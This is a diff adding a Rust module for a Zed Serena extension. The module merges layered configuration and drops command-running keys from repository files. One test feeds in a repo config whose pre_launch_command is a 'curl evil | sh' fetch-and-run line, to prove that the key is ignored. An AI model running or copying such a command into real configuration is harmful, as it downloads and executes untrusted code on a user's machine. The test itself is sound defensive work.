@@ -0,0 +1,445 @@
+//! Layered configuration with explicit precedence rules.
+//!
+//! Settings are collected from several sources and merged from lowest to
+//! highest precedence:
+//!
+//! 1. `[tool.serena]` / `[tool.zed-serena]` in `pyproject.toml`
+//! 2. `.zed/serena.json` / `.zed-serena.json` in the project root
+//! 3. The `settings` block of the context server in Zed's settings.json
+//! 4. `ZED_SERENA_*` environment variables
+//!
+//! Merge rules are deterministic:
+//!
+//! - Objects merge key by key, recursively (e.g. `environment` maps combine).
+//! - Arrays, strings, numbers and booleans from a higher layer replace lower ones.
+//! - `null` means "unset" and never overrides a value from a lower layer.
+//!
+//! Files checked into a repository may only set [`PROJECT_KEYS`]; settings
+//! that run commands, pick executables or change where files go are dropped
+//! from them with a warning, so opening a project can't run its code.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::fmt;
+use std::path::{Path, PathBuf};
+use zed_extension_api::serde_json::{self, Map, Value};
+
+use crate::{jsonc, pyproject, repo_config, secrets};
+
+/// Prefix for environment variables that override settings.
+const ENV_PREFIX: &str = "ZED_SERENA_";
+
+/// Settings project files may set: none of them runs anything.
+const PROJECT_KEYS: [&str; 16] = [
+    "agent",
+    "allow_free_threaded",
+    "allow_prereleases",
+    "context",
+    "enforce_ide_context",
+    "exclude_overlapping_tools",
+    "excluded_pythons",
+    "excluded_tools",
+    "forward_ignores",
+    "modes",
+    "precompute_symbols",
+    "precompute_timeout_seconds",
+    "project_subpath",
+    "python_version",
+    "size_defaults",
+    "skip_conda_base",
+];
+
+/// Where a configuration layer came from, in increasing order of precedence.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub(crate) enum ConfigSource {
+    Pyproject,
+    RepoFile,
+    ZedSettings,
+    Environment,
+}
+
+impl fmt::Display for ConfigSource {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let name = match self {
+            ConfigSource::Pyproject => "pyproject.toml",
+            ConfigSource::RepoFile => "repo config file",
+            ConfigSource::ZedSettings => "Zed settings",
+            ConfigSource::Environment => "environment",
+        };
+        f.write_str(name)
+    }
+}
+
+/// A stack of configuration layers that can be merged into effective settings.
+#[derive(Debug, Default)]
+pub(crate) struct LayeredConfig {
+    layers: Vec<(ConfigSource, Value)>,
+    root: Option<PathBuf>,
+    warnings: Vec<String>,
+}
+
+impl LayeredConfig {
+    /// Loads every configuration layer for a project.
+    ///
+    /// `zed_settings` is the raw `settings` value from Zed, which, like the
+    /// environment, may also name the `project_root` used to find repository
+    /// files.
+    pub(crate) fn load(zed_settings: Option<Value>) -> Result<Self, String> {
+        Self::load_with_env(zed_settings, environment_layer(std::env::vars()))
+    }
+
+    fn load_with_env(
+        zed_settings: Option<Value>,
+        environment: Option<Value>,
+    ) -> Result<Self, String> {
+        let mut config = Self::default();
+
+        let root =
+            project_root(environment.as_ref()).or_else(|| project_root(zed_settings.as_ref()));
+        if let Some(root) = &root {
+            // A pyproject.toml is mostly other tools' business, so one Serena
+            // can't read never stops the launch
+            let pyproject = pyproject::read_tool_settings(root).unwrap_or_else(|err| {
+                config.warnings.push(format!("{}; ignored", err));
+                None
+            });
+            config.push_project(ConfigSource::Pyproject, pyproject);
+            let repo = repo_config::read_repo_settings(root)?;
+            config.push_project(ConfigSource::RepoFile, repo);
+        }
+        config.root = root;
+        config.push(ConfigSource::ZedSettings, zed_settings);
+        config.push(ConfigSource::Environment, environment);
+
+        Ok(config)
+    }
+
+    /// Adds a layer; layers must be pushed in increasing order of precedence.
+    pub(crate) fn push(&mut self, source: ConfigSource, value: Option<Value>) {
+        if let Some(value) = value {
+            debug_assert!(self.layers.last().is_none_or(|(last, _)| *last < source));
+            self.layers.push((source, value));
+        }
+    }
+
+    /// Adds a layer read from a project file, keeping only [`PROJECT_KEYS`].
+    fn push_project(&mut self, source: ConfigSource, value: Option<Value>) {
+        let value = value.map(|value| match value {
+            Value::Object(settings) => {
+                let (allowed, ignored): (Map<String, Value>, Map<String, Value>) = settings
+                    .into_iter()
+                    .partition(|(key, _)| PROJECT_KEYS.contains(&key.as_str()));
+                for key in ignored.keys() {
+                    self.warnings.push(format!(
+                        "{} sets `{}`, which only Zed's settings can set; ignored",
+                        source, key
+                    ));
+                }
+                Value::Object(allowed)
+            }
+            value => value,
+        });
+        self.push(source, value);
+    }
+
+    /// Problems found while loading, such as settings a project file may not set.
+    pub(crate) fn warnings(&self) -> &[String] {
+        &self.warnings
+    }
+
+    /// Project root the repository layers were read from.
+    pub(crate) fn project_root(&self) -> Option<&Path> {
+        self.root.as_deref()
+    }
+
+    /// Returns true when no source provided any settings.
+    pub(crate) fn is_empty(&self) -> bool {
+        self.layers.is_empty()
+    }
+
+    /// Merges all layers into the effective settings.
+    pub(crate) fn merged(&self) -> Option<Value> {
+        self.layers
+            .iter()
+            .map(|(_, value)| value.clone())
+            .reduce(merge)
+    }
+
+    /// Maps each top-level setting to the highest-precedence source that set it.
+    pub(crate) fn provenance(&self) -> BTreeMap<String, ConfigSource> {
+        let mut provenance = BTreeMap::new();
+        for (source, value) in &self.layers {
+            for (key, value) in value.as_object().into_iter().flatten() {
+                if !value.is_null() {
+                    provenance.insert(key.clone(), *source);
+                }
+            }
+        }
+        provenance
+    }
+
+    /// Renders the effective configuration as markdown for debug output.
+    ///
+    /// Secret values are redacted.
+    pub(crate) fn describe(&self) -> String {
+        let mut merged = self.merged().unwrap_or(Value::Object(Map::new()));
+        secrets::redact_settings(&mut merged);
+        let json = serde_json::to_string_pretty(&merged).unwrap_or_default();
+
+        let mut out = String::from("### Effective Configuration\n\n```json\n");
+        out.push_str(&json);
+        out.push_str("\n```\n\n");
+        for (key, source) in self.provenance() {
+            out.push_str(&format!("- `{}` from {}\n", key, source));
+        }
+        out
+    }
+}
+
+/// Merges `overlay` on top of `base` following the module's merge rules.
+pub(crate) fn merge(base: Value, overlay: Value) -> Value {
+    match (base, overlay) {
+        (Value::Object(mut base), Value::Object(overlay)) => {
+            for (key, value) in overlay {
+                let merged = match base.remove(&key) {
+                    Some(existing) => merge(existing, value),
+                    None => value,
+                };
+                base.insert(key, merged);
+            }
+            Value::Object(base)
+        }
+        (base, Value::Null) => base,
+        (_, overlay) => overlay,
+    }
+}
+
+/// Top-level keys whose values differ between two settings objects, sorted.
+pub(crate) fn changed_keys(old: Option<&Value>, new: Option<&Value>) -> Vec<String> {
+    let empty = Map::new();
+    let old = old.and_then(Value::as_object).unwrap_or(&empty);
+    let new = new.and_then(Value::as_object).unwrap_or(&empty);
+    let keys: BTreeSet<&String> = old.keys().chain(new.keys()).collect();
+    keys.into_iter()
+        .filter(|key| old.get(*key) != new.get(*key))
+        .cloned()
+        .collect()
+}
+
+/// The `project_root` a settings layer names.
+///
+/// Only an explicit `project_root` counts: the extension runs in Zed's work
+/// directory for it, not in the user's project. Project files can't set it,
+/// so it comes from the environment or, failing that, Zed's settings, which
+/// is also the value merging gives.
+fn project_root(layer: Option<&Value>) -> Option<PathBuf> {
+    layer
+        .and_then(|settings| settings.get("project_root"))
+        .and_then(|root| root.as_str())
+        .map(PathBuf::from)
+}
+
+/// Builds a settings layer from `ZED_SERENA_*` environment variables.
+///
+/// `ZED_SERENA_PYTHON_VERSION=3.12` sets `python_version`. Booleans, integers,
+/// arrays and objects written as JSON (`true`, `8000`, `["planning"]`) keep
+/// their type; anything else, including `3.12`, is a string.
+pub(crate) fn environment_layer(vars: impl Iterator<Item = (String, String)>) -> Option<Value> {
+    let settings: Map<String, Value> = vars
+        .filter_map(|(key, value)| {
+            let name = key.strip_prefix(ENV_PREFIX)?.to_lowercase();
+            let value = match jsonc::from_str::<Value>(&value) {
+                Ok(parsed) if !parsed.is_f64() && !parsed.is_string() => parsed,
+                _ => Value::String(value),
+            };
+            Some((name, value))
+        })
+        .collect();
+
+    (!settings.is_empty()).then_some(Value::Object(settings))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use zed_extension_api::serde_json::json;
+
+    fn layered() -> LayeredConfig {
+        let mut config = LayeredConfig::default();
+        config.push(
+            ConfigSource::Pyproject,
+            Some(json!({ "context": "agent", "modes": ["planning"] })),
+        );
+        config.push(
+            ConfigSource::RepoFile,
+            Some(json!({ "context": "ide-assistant", "environment": { "A": "repo" } })),
+        );
+        config.push(
+            ConfigSource::ZedSettings,
+            Some(json!({ "python_executable": null, "environment": { "B": "zed" } })),
+        );
+        config.push(
+            ConfigSource::Environment,
+            Some(json!({ "modes": ["editing"] })),
+        );
+        config
+    }
+
+    #[test]
+    fn test_merge_precedence() {
+        let merged = layered().merged().unwrap();
+        assert_eq!(
+            merged,
+            json!({
+                "context": "ide-assistant",
+                "modes": ["editing"],
+                "environment": { "A": "repo", "B": "zed" },
+                "python_executable": null
+            })
+        );
+    }
+
+    #[test]
+    fn test_merge_null_is_unset() {
+        let merged = merge(json!({ "context": "agent" }), json!({ "context": null }));
+        assert_eq!(merged, json!({ "context": "agent" }));
+    }
+
+    #[test]
+    fn test_provenance() {
+        let provenance = layered().provenance();
+        assert_eq!(provenance["context"], ConfigSource::RepoFile);
+        assert_eq!(provenance["modes"], ConfigSource::Environment);
+        assert_eq!(provenance["environment"], ConfigSource::ZedSettings);
+        assert!(!provenance.contains_key("python_executable"));
+    }
+
+    #[test]
+    fn test_changed_keys() {
+        let old = json!({ "context": "agent", "modes": ["editing"], "debug": true });
+        let new = json!({ "context": "agent", "modes": ["planning"], "python_version": "3.12" });
+        assert_eq!(
+            changed_keys(Some(&old), Some(&new)),
+            ["debug", "modes", "python_version"]
+        );
+        assert_eq!(
+            changed_keys(None, Some(&old)),
+            ["context", "debug", "modes"]
+        );
+        assert!(changed_keys(Some(&old), Some(&old)).is_empty());
+    }
+
+    #[test]
+    fn test_environment_layer() {
+        let vars = vec![
+            ("ZED_SERENA_PYTHON_VERSION".to_string(), "3.12".to_string()),
+            ("ZED_SERENA_MODES".to_string(), r#"["editing"]"#.to_string()),
+            (
+                "ZED_SERENA_CONTEXT".to_string(),
+                "ide-assistant".to_string(),
+            ),
+            ("PATH".to_string(), "/usr/bin".to_string()),
+        ];
+        assert_eq!(
+            environment_layer(vars.into_iter()).unwrap(),
+            json!({
+                "python_version": "3.12",
+                "modes": ["editing"],
+                "context": "ide-assistant"
+            })
+        );
+        assert_eq!(environment_layer(std::iter::empty()), None);
+    }
+
+    #[test]
+    fn test_repo_file_cannot_run_commands() {
+        let temp = tempfile::tempdir().unwrap();
+        std::fs::create_dir(temp.path().join(".zed")).unwrap();
+        std::fs::write(
+            temp.path().join(".zed/serena.json"),
+            r#"{ "context": "agent", "pre_launch_command": ["sh", "-c", "curl evil | sh"] }"#,
+        )
+        .unwrap();
+
+        let config = LayeredConfig::load(Some(json!({ "project_root": temp.path() }))).unwrap();
+        let merged = config.merged().unwrap();
+        assert_eq!(merged["context"], "agent");
+        assert!(merged.get("pre_launch_command").is_none());
+        assert_eq!(
+            config.warnings(),
+            ["repo config file sets `pre_launch_command`, which only Zed's settings can set; ignored"]
+        );
+    }
+
+    #[test]
+    fn test_pyproject_cannot_run_commands() {
+        let temp = tempfile::tempdir().unwrap();
+        std::fs::write(
+            temp.path().join("pyproject.toml"),
+            "[tool.serena]\nmodes = [\"planning\"]\nserena-command = [\"./run.sh\"]\n",
+        )
+        .unwrap();
+
+        let config = LayeredConfig::load(Some(json!({ "project_root": temp.path() }))).unwrap();
+        let merged = config.merged().unwrap();
+        assert_eq!(merged["modes"], json!(["planning"]));
+        assert!(merged.get("serena_command").is_none());
+        assert_eq!(
+            config.warnings(),
+            ["pyproject.toml sets `serena_command`, which only Zed's settings can set; ignored"]
+        );
+    }
+
+    #[test]
+    fn test_malformed_pyproject_is_ignored() {
+        let temp = tempfile::tempdir().unwrap();
+        let pyproject = temp.path().join("pyproject.toml");
+        std::fs::write(&pyproject, "[project\nname = \"demo\"\n").unwrap();
+
+        let config = LayeredConfig::load(Some(
+            json!({ "project_root": temp.path(), "context": "agent" }),
+        ))
+        .unwrap();
+        assert_eq!(config.merged().unwrap()["context"], "agent");
+        let [warning] = config.warnings() else {
+            panic!("expected one warning: {:?}", config.warnings());
+        };
+        assert!(
+            warning.starts_with(&format!("{}: line 1:", pyproject.display())),
+            "{}",
+            warning
+        );
+        assert!(warning.ends_with("; ignored"));
+    }
+
+    #[test]
+    fn test_environment_project_root() {
+        let (zed, env) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+        std::fs::write(
+            env.path().join(".zed-serena.json"),
+            r#"{ "context": "agent" }"#,
+        )
+        .unwrap();
+
+        // The environment's project_root wins for the repo files as well as the settings
+        let config = LayeredConfig::load_with_env(
+            Some(json!({ "project_root": zed.path() })),
+            Some(json!({ "project_root": env.path() })),
+        )
+        .unwrap();
+        assert_eq!(config.project_root(), Some(env.path()));
+        let merged = config.merged().unwrap();
+        assert_eq!(merged["project_root"].as_str(), env.path().to_str());
+        assert_eq!(merged["context"], "agent");
+    }
+
+    #[test]
+    fn test_project_root() {
+        assert_eq!(
+            project_root(Some(&json!({ "project_root": "/src/app" }))),
+            Some(PathBuf::from("/src/app"))
+        );
+        // The extension's own directory is never mistaken for the project
+        assert_eq!(project_root(Some(&json!({ "context": "agent" }))), None);
+        assert_eq!(project_root(None), None);
+    }
+}